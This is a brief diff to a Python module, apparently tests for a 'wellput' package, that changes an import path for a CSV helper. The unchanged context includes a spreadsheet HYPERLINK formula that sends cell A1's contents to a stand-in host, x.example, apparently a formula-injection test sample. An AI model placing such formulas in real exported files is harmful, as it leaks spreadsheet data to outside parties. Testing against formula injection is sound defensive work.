@@ -15,7 +15,7 @@ from wellput.io import read_judgments, write_judgments
 from wellput.io.evalica import read_judgments as read_evalica
 from wellput.io.evalica import write_evalica
 from wellput.io.spreadsheets import with_formula, without_formula
-from wellput.reporting.table import as_csv
+from wellput.reporting.table_formats import as_csv
 
 FORMULAS = [
     '=HYPERLINK("http://x.example/?"&A1,"open")',
